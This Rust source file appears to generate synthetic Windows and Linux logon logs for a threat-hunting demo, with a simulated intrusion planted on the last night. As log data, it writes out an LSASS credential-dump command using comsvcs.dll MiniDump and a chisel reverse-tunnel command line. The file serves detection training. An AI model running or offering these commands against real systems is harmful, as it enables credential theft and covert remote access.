//! The scenario: a week of the organisation's daily remote logons, then,
//! on the last night, the intruder's moves; and the directory it is
//! written to.

use crate::error::DemoError;
use crate::files::write_all;
use crate::organisation::{
    make_people, Generator, Person, ANSIBLE, BACKUP, BASTION, DOMAIN, HELP_DESK_SUBNET, JUMP_HOSTS, MONITOR, SCANNER,
    SCCM,
};
use crate::summary::{DemoSummary, Intrusion};
use crate::DemoOptions;
use kqlite_engine::types::{NANOS_PER_DAY, NANOS_PER_HOUR, NANOS_PER_MINUTE, NANOS_PER_SECOND};
use rand::Rng;
use serde_json::json;
use std::collections::HashSet;
use std::path::Path;

/// The file that marks a directory as the demo's, so a rerun may replace
/// the `logs/` and `tuning/` it wrote before.
pub const MARKER_FILE: &str = "kqlite-demo.txt";

/// Makes `dir` ready for a new environment: created if missing; when it
/// holds an earlier demo (its marker file), that demo's `logs/` and
/// `tuning/` are removed so no stale host's logs are hunted; any other
/// non-empty directory is refused rather than touched.
fn prepare_directory(dir: &Path) -> Result<(), DemoError> {
    let mut entries = match std::fs::read_dir(dir) {
        Ok(entries) => entries,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
            return std::fs::create_dir_all(dir).map_err(|source| DemoError::Create { path: dir.to_path_buf(), source })
        }
        Err(source) => return Err(DemoError::Read { path: dir.to_path_buf(), source }),
    };
    if entries.next().is_none() {
        return Ok(());
    }
    if !dir.join(MARKER_FILE).is_file() {
        return Err(DemoError::NotADemoDirectory { path: dir.to_path_buf() });
    }
    for owned in ["logs", "tuning"] {
        let path = dir.join(owned);
        match std::fs::remove_dir_all(&path) {
            Ok(()) => {}
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => {}
            Err(source) => return Err(DemoError::RemoveEarlier { path, source }),
        }
    }
    Ok(())
}

/// Generates the environment into `dir`: a new or empty directory, or one an
/// earlier run of the demo wrote (its logs and tuning are replaced).
pub fn generate(dir: &Path, options: &DemoOptions) -> Result<DemoSummary, DemoError> {
    let mut g = Generator::new(options)?;
    prepare_directory(dir)?;
    let mut used_names = HashSet::new();
    let user_count = g.workstations.len().saturating_sub(10);
    let user_names = make_people(&mut g, user_count, "", &mut used_names);
    let admin_names = make_people(&mut g, 6, "admin-", &mut used_names);
    let help_desk_names = make_people(&mut g, 4, "hd-", &mut used_names);
    let users: Vec<Person> =
        user_names.into_iter().enumerate().map(|(i, user)| Person { user, workstation: g.workstations[i] }).collect();
    // The last ten workstations: the administrators' and the help desk's.
    let admin_workstations: Vec<usize> = g.workstations[g.workstations.len() - 10..g.workstations.len() - 4].to_vec();
    let help_desk_ips: Vec<String> =
        (0..help_desk_names.len()).map(|i| format!("{HELP_DESK_SUBNET}.{}", 21 + i)).collect();
    for (i, ip) in help_desk_ips.iter().enumerate() {
        let ws = g.workstations[g.workstations.len() - 4 + i];
        g.hosts[ws].ip = ip.clone();
        g.hosts[ws].name = format!("HD-WS-{:02}", i + 1);
    }
    let file_servers: Vec<usize> =
        g.windows_servers.iter().copied().filter(|&h| g.hosts[h].name.contains("-FS-")).collect();
    let domain_controllers: Vec<usize> =
        g.windows_servers.iter().copied().filter(|&h| g.hosts[h].name.starts_with("DC-")).collect();
    let member_servers: Vec<usize> =
        g.windows_servers.iter().copied().filter(|&h| !g.hosts[h].name.starts_with("DC-")).collect();
    let jump_hosts: Vec<usize> = JUMP_HOSTS.iter().map(|(n, _)| g.host_named(n)).collect();
    let bastion = g.host_named(BASTION.0);
    let mut benign = Vec::new();

    for day in 0..options.days as i64 {
        let day_start = options.start + day * NANOS_PER_DAY;
        let weekday = chrono::DateTime::from_timestamp_nanos(day_start).format("%u").to_string();
        let working_day = weekday != "6" && weekday != "7";
        if working_day {
            // Users: a console logon at their workstation, then their home drive on a file server.
            for person in &users {
                if !g.rng.random_bool(0.9) {
                    continue;
                }
                let ws = person.workstation;
                let t = g.time_between(day_start, 7, 10);
                g.logon(t, ws, &person.user, 2, "127.0.0.1", "-");
                let fs = file_servers[ws % file_servers.len().max(1)];
                let (ip, name) = (g.hosts[ws].ip.clone(), g.hosts[ws].name.clone());
                // Mapped drives reconnect through the day.
                for _ in 0..g.rng.random_range(1..5) {
                    let at = g.time_between(day_start, 8, 18);
                    g.logon(at, fs, &person.user, 3, &ip, &name);
                }
                // The workstation's machine account talks to a domain controller (filtered by the rules).
                let dc = domain_controllers[ws % domain_controllers.len()];
                g.logon(t - 5 * NANOS_PER_MINUTE, dc, &format!("{name}$"), 3, &ip, &name);
            }
            // Administrators: RDP to a jump host, then RDP, C$ and WinRM to servers; SSH via the bastion.
            for (a, admin) in admin_names.iter().enumerate() {
                let ws = admin_workstations[a];
                let (ws_ip, ws_name) = (g.hosts[ws].ip.clone(), g.hosts[ws].name.clone());
                let t = g.time_between(day_start, 7, 9);
                g.logon(t, ws, admin, 2, "127.0.0.1", "-");
                let jump = jump_hosts[a % jump_hosts.len()];
                let (jump_ip, jump_name) = (g.hosts[jump].ip.clone(), g.hosts[jump].name.clone());
                let t = g.time_between(day_start, 9, 10);
                g.logon(t, jump, admin, 10, &ws_ip, &ws_name);
                let count = g.rng.random_range(2..7);
                for server in g.pick(&member_servers, count) {
                    let t = g.time_between(day_start, 10, 17);
                    match g.rng.random_range(0..4) {
                        0 | 1 => {
                            g.logon(t, server, admin, 10, &jump_ip, &jump_name);
                        }
                        2 => {
                            g.logon(t, server, admin, 3, &jump_ip, &jump_name);
                            g.share_access(t + NANOS_PER_SECOND, server, admin, &jump_ip, "C$", &["Temp\\install.log"]);
                        }
                        _ => g.winrm_session(t, server, admin, &jump_ip, &jump_name, true),
                    }
                }
                if a % 2 == 0 {
                    let t = g.time_between(day_start, 10, 16);
                    g.ssh_logon(t, bastion, admin, &ws_ip, "publickey");
                    let count = g.rng.random_range(1..4);
                    for server in g.pick(&g.linux_servers.clone(), count) {
                        let delay = g.rng.random_range(1..120) * NANOS_PER_MINUTE;
                        g.ssh_logon(t + delay, server, admin, BASTION.1, "publickey");
                    }
                }
            }
            // Help desk: RDP to users' workstations from its subnet.
            for (h, helper) in help_desk_names.iter().enumerate() {
                let count = g.rng.random_range(4..12);
                let user_workstations = g.workstations[..g.workstations.len() - 10].to_vec();
                for ws in g.pick(&user_workstations, count) {
                    let t = g.time_between(day_start, 8, 18);
                    let (ip, name) = (help_desk_ips[h].clone(), format!("HD-WS-{:02}", h + 1));
                    g.logon(t, ws, helper, 10, &ip, &name);
                }
            }
            // SCCM client push / remediation: ADMIN$ and svcctl on some workstations.
            let count = g.rng.random_range(10..30);
            for ws in g.pick(&g.workstations.clone(), count) {
                let t = g.time_between(day_start, 9, 17);
                g.logon(t, ws, "svc-sccm", 3, SCCM.1, SCCM.0);
                g.share_access(t + NANOS_PER_SECOND, ws, "svc-sccm", SCCM.1, "ADMIN$", &["ccmsetup\\ccmsetup.exe"]);
                g.share_access(t + 5 * NANOS_PER_SECOND, ws, "svc-sccm", SCCM.1, "IPC$", &["svcctl"]);
            }
        }
        // Every day, working or not: backup at night, monitoring over WinRM, Ansible, the scanner.
        for &server in &member_servers.clone() {
            let t = g.time_between(day_start, 1, 2);
            g.logon(t, server, "svc-backup", 3, BACKUP.1, BACKUP.0);
        }
        for hour in [2, 8, 14, 20] {
            for &server in &member_servers.clone() {
                if g.rng.random_bool(0.5) {
                    let t = g.time_between(day_start, hour, hour + 1);
                    g.winrm_session(t, server, "svc-monitor", MONITOR.1, MONITOR.0, false);
                }
            }
        }
        for &server in &g.linux_servers.clone() {
            let t = g.time_between(day_start, 3, 4);
            g.ssh_logon(t, server, "svc-ansible", ANSIBLE.1, "publickey");
            let t = g.time_between(day_start, 6, 7);
            g.syslog_line(t, server, "CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)");
        }
        // The scanner sweeps a third of the hosts each evening.
        let scanned = g.hosts.len() / 3;
        for host in g.pick(&(0..g.hosts.len()).collect::<Vec<_>>(), scanned) {
            let t = g.time_between(day_start, 22, 24);
            if g.hosts[host].linux {
                g.ssh_logon(t, host, "svc-vulnscan", SCANNER.1, "publickey");
            } else {
                g.logon(t, host, "svc-vulnscan", 3, SCANNER.1, SCANNER.0);
                g.share_access(t + NANOS_PER_SECOND, host, "svc-vulnscan", SCANNER.1, "C$", &[]);
                g.share_access(t + 3 * NANOS_PER_SECOND, host, "svc-vulnscan", SCANNER.1, "IPC$", &["winreg"]);
            }
        }
        // Noise every Linux host logs: failed root guesses from the internet-facing side are not
        // lateral movement (the rules read successes).
        if let Some(&web) = g.linux_servers.first() {
            let t = g.time_between(day_start, 0, 24);
            g.syslog_line(t, web, "sshd", "Failed password for invalid user oracle from 203.0.113.45 port 40022 ssh2");
        }
    }
    benign.push(format!("{} users: console logon at their workstation, home drive on a file server", users.len()));
    benign.push(format!(
        "{} administrators ({}): RDP to jump hosts {} and {}, then RDP, C$ and WinRM to servers; SSH via {}",
        admin_names.len(),
        admin_names.join(", "),
        JUMP_HOSTS[0].1,
        JUMP_HOSTS[1].1,
        BASTION.1
    ));
    benign.push(format!(
        "help desk ({}) from {}.0/24: RDP to users' workstations",
        help_desk_names.join(", "),
        HELP_DESK_SUBNET
    ));
    benign.push(format!("vulnerability scanner svc-vulnscan from {}: network logons, C$, winreg and SSH to a third of the hosts each evening", SCANNER.1));
    benign.push(format!("svc-backup from {}: network logons to every member server at 01:00", BACKUP.1));
    benign.push(format!("svc-sccm from {}: ADMIN$ and svcctl on workstations (client push)", SCCM.1));
    benign.push(format!("svc-monitor from {}: WinRM to servers every 6 hours", MONITOR.1));
    benign.push(format!("svc-ansible from {}: SSH to every Linux server at 03:00", ANSIBLE.1));

    let intrusion = plant_intrusion(&mut g, options, &users, &admin_names, &member_servers, &domain_controllers);
    write_all(dir, g, options, benign, intrusion, &admin_names, &help_desk_ips)
}

/// The intruder: on the last night, from a user's workstation, with an administrator's account.
fn plant_intrusion(
    g: &mut Generator,
    options: &DemoOptions,
    users: &[Person],
    admin_names: &[String],
    member_servers: &[usize],
    domain_controllers: &[usize],
) -> Intrusion {
    let night = options.start + (options.days as i64 - 1) * NANOS_PER_DAY;
    let victim = &users[g.rng.random_range(0..users.len())];
    let account = admin_names[g.rng.random_range(0..admin_names.len())].clone();
    let source = victim.workstation;
    let (source_ip, source_name) = (g.hosts[source].ip.clone(), g.hosts[source].name.clone());
    let mut servers = g.pick(member_servers, 7);
    let smb: Vec<usize> = servers.drain(..2).collect();
    let rdp: Vec<usize> = vec![servers.remove(0), domain_controllers[0]];
    let winrm: Vec<usize> = servers.drain(..2).collect();
    let linux = g.pick(&g.linux_servers.clone(), 2);
    let mut t = night + NANOS_PER_HOUR + g.rng.random_range(5..20) * NANOS_PER_MINUTE;
    let first_event = t;
    // SMB, PsExec style: logon, ADMIN$ write, svcctl, a new service.
    for &host in &smb {
        g.logon(t, host, &account, 3, &source_ip, &source_name);
        g.share_access(t + NANOS_PER_SECOND, host, &account, &source_ip, "ADMIN$", &["PSEXESVC.exe"]);
        g.share_access(t + 4 * NANOS_PER_SECOND, host, &account, &source_ip, "IPC$", &["svcctl"]);
        let fields = json!({
            "SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-1500", "SubjectUserName": account,
            "SubjectDomainName": DOMAIN, "SubjectLogonId": "0x3e7", "ServiceName": "PSEXESVC",
            "ServiceFileName": "%SystemRoot%\\PSEXESVC.exe", "ServiceType": "0x10", "ServiceStartType": "3",
            "ServiceAccount": "LocalSystem",
        });
        g.security_event(t + 6 * NANOS_PER_SECOND, host, 4697, fields);
        t += g.rng.random_range(3..9) * NANOS_PER_MINUTE;
    }
    // RDP to a server and a domain controller.
    t += 15 * NANOS_PER_MINUTE;
    for &host in &rdp {
        g.logon(t, host, &account, 10, &source_ip, &source_name);
        t += g.rng.random_range(10..20) * NANOS_PER_MINUTE;
    }
    // WinRM remoting: the remote session dumps LSASS (PowerShell script block logging records it).
    for &host in &winrm {
        g.winrm_session(t, host, &account, &source_ip, &source_name, true);
        let script_block_id =
            format!("{:08x}-4c2e-4f1a-9d3b-{:012x}", g.rng.random::<u32>(), g.rng.random::<u64>() & 0xffff_ffff_ffff);
        g.windows_event(
            t + 20 * NANOS_PER_SECOND,
            host,
            "Microsoft-Windows-PowerShell/Operational",
            "Microsoft-Windows-PowerShell",
            4104,
            json!({
                "MessageNumber": "1",
                "MessageTotal": "1",
                "ScriptBlockText": "$p = (Get-Process lsass).Id; rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump $p C:\\Windows\\Temp\\dbg.bin full",
                "ScriptBlockId": script_block_id,
                "Path": "",
            }),
        );
        t += g.rng.random_range(4..12) * NANOS_PER_MINUTE;
    }
    // SSH with the same (directory-backed) account.
    for &host in &linux {
        g.ssh_logon(t, host, &account, &source_ip, "password");
        t += g.rng.random_range(3..10) * NANOS_PER_MINUTE;
    }
    // RDP through a reverse tunnel on the first RDP target: chisel there connects back to the
    // intruder's workstation and exposes the server's RDP port, so the next logon comes from loopback.
    let tunnel = rdp[0];
    let tunnel_name = g.hosts[tunnel].name.clone();
    let process = json!({
        "SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-1500",
        "SubjectUserName": account,
        "SubjectDomainName": DOMAIN,
        "SubjectLogonId": "0x3e7",
        "NewProcessId": "0x1f3c",
        "NewProcessName": "C:\\ProgramData\\chisel.exe",
        "TokenElevationType": "%%1937",
        "ProcessId": "0x1a08",
        "CommandLine": format!("C:\\ProgramData\\chisel.exe client {source_ip}:8443 R:3390:127.0.0.1:3389"),
        "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
    });
    g.security_event(t - 2 * NANOS_PER_MINUTE, tunnel, 4688, process);
    g.logon(t, tunnel, &account, 10, "127.0.0.1", &tunnel_name);
    let last_event = t + NANOS_PER_SECOND;
    let names = |hosts: &[usize]| -> Vec<String> {
        let mut v: Vec<String> =
            hosts
                .iter()
                .map(|&h| {
                    if g.hosts[h].linux {
                        g.hosts[h].name.clone()
                    } else {
                        format!("{}.contoso.local", g.hosts[h].name)
                    }
                })
                .collect();
        v.sort();
        v
    };
    Intrusion {
        account,
        domain: DOMAIN.to_string(),
        source_host: source_name,
        source_ip,
        smb_targets: names(&smb),
        rdp_targets: names(&rdp),
        rdp_tunnel_target: names(&[tunnel]).remove(0),
        winrm_targets: names(&winrm),
        ssh_targets: names(&linux),
        first_event,
        last_event,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::path::PathBuf;

    #[test]
    fn rejects_too_few_hosts_and_days() {
        let dir = std::env::temp_dir();
        let err = generate(&dir, &DemoOptions { hosts: 10, ..DemoOptions::default() }).unwrap_err().to_string();
        assert!(err.contains("at least 40 hosts"), "{err}");
        let err = generate(&dir, &DemoOptions { days: 1, ..DemoOptions::default() }).unwrap_err().to_string();
        assert!(err.contains("at least 2"), "{err}");
    }

    #[test]
    fn the_smallest_environment_still_has_every_intrusion_step() {
        let dir = tempfile::tempdir().unwrap();
        let summary = generate(dir.path(), &DemoOptions { hosts: 40, days: 2, ..DemoOptions::default() }).unwrap();
        let i = &summary.intrusion;
        assert_eq!(
            (i.smb_targets.len(), i.rdp_targets.len(), i.winrm_targets.len(), i.ssh_targets.len()),
            (2, 2, 2, 2)
        );
        assert_eq!(summary.workstations + summary.windows_servers + summary.linux_servers, 40);
    }

    #[test]
    fn reruns_replace_the_earlier_demo_and_other_directories_are_refused() {
        let dir = tempfile::tempdir().unwrap();
        let small = DemoOptions { hosts: 40, days: 2, ..DemoOptions::default() };
        generate(dir.path(), &DemoOptions { hosts: 60, ..small.clone() }).unwrap();
        let second = generate(dir.path(), &small).unwrap();
        // Only the second run's files are left under logs/.
        let on_disk: Vec<PathBuf> = walkdir::WalkDir::new(dir.path().join("logs"))
            .into_iter()
            .map(Result::unwrap)
            .filter(|e| !e.file_type().is_dir())
            .map(|e| e.path().strip_prefix(dir.path()).unwrap().to_path_buf())
            .collect();
        let written: HashSet<PathBuf> =
            second.files.iter().map(|(f, _)| f.clone()).filter(|f| f.starts_with("logs")).collect();
        assert_eq!(on_disk.len(), written.len());
        assert!(on_disk.iter().all(|f| written.contains(f)));

        let other = tempfile::tempdir().unwrap();
        std::fs::write(other.path().join("notes.txt"), "mine").unwrap();
        let err = generate(other.path(), &small).unwrap_err().to_string();
        assert!(err.contains("not written by kqlite demo"), "{err}");
        assert_eq!(std::fs::read_to_string(other.path().join("notes.txt")).unwrap(), "mine");
    }
}
